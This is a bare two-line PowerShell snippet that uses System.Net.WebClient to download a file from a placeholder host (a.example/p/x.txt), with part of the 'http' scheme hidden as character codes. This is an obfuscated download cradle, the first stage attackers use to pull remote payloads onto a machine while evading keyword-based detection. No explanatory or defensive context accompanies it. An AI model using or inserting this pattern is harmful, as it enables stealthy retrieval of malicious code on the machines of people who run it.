$wc = New-Object System.Net.WebClient
$wc.DownloadString("$([char]104)$([char]116)tp://a.example/p/x.txt")
